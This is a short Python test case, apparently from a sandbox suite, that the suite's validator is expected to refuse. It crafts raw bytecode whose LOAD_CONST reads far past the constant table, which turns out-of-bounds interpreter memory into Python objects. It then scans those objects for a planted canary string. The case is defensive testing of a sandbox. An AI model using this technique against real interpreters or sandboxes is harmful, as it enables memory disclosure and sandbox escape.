# attack: bytecode is not checked: one that loads constants far beyond its table gets foreign memory as objects
# expect: validator
# validator: refused
import dis
import faulthandler
import types

# Own process only: the worst is a crash of it, which the sandbox has to report as any other end.
LOAD_CONST, RETURN, EXTENDED, RESUME = (dis.opmap[name] for name in ("LOAD_CONST", "RETURN_VALUE", "EXTENDED_ARG", "RESUME"))


def loading(index):
    """A function that returns the constant with this number, whether there is one or not."""
    wide = [EXTENDED, index >> 24 & 255, EXTENDED, index >> 16 & 255, EXTENDED, index >> 8 & 255]
    body = bytes([RESUME, 0, *wide, LOAD_CONST, index & 255, RETURN, 0])
    return types.FunctionType((lambda: None).__code__.replace(co_code=body, co_consts=(None,), co_stacksize=4), {})


faulthandler.disable()
print("in range:", loading(0)(), flush=True)
secrets = 0
for index in range(1, 4000):
    found = loading(index)()
    if isinstance(found, str) and "CANARY" + "_7f3a" in found:
        secrets += 1
        print(f"ESCAPED: foreign memory held {found!r}", flush=True)
print("went through", index, "foreign objects without a crash", flush=True)
